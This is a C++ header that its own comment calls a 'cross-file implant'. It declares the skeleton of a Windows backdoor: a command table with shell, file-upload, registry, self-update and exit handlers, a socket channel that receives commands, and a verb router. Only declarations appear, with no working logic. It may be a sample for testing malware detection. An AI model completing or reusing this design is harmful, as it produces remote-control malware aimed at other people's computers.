// A cross-file implant: the command table lives in table.cpp, the handlers in handlers.cpp,
// the loop that matches verbs against the table in dispatch.cpp, the socket in channel.cpp
// and a lambda-based router in router.cpp.
#pragma once
#include <windows.h>
#include <winsock2.h>
#include <functional>
#include <map>
#include <string>

typedef int (*HandlerFn)(const std::string &args);

struct CommandEntry {
    const char *name;
    HandlerFn handler;
};

extern const CommandEntry g_commands[];
extern const size_t g_commandCount;

int CmdShell(const std::string &args);
int CmdPut(const std::string &args);
int CmdReg(const std::string &args);
int CmdUpdate(const std::string &args);
int CmdBye(const std::string &args);

int Dispatch(const std::string &verb, const std::string &args);
int DispatchDirect(const std::string &verb, const std::string &args);

class Channel {
public:
    explicit Channel(SOCKET s) : m_sock(s) {}
    bool Receive(std::string &line);
    void Serve();
    void ServeRouted();
    void ServeDirect();
private:
    SOCKET m_sock;
};

class Router {
public:
    Router();
    void Register(const std::string &verb, std::function<int(const std::string &)> fn);
    int Route(const std::string &verb, const std::string &args);
private:
    std::map<std::string, std::function<int(const std::string &)>> m_routes;
};
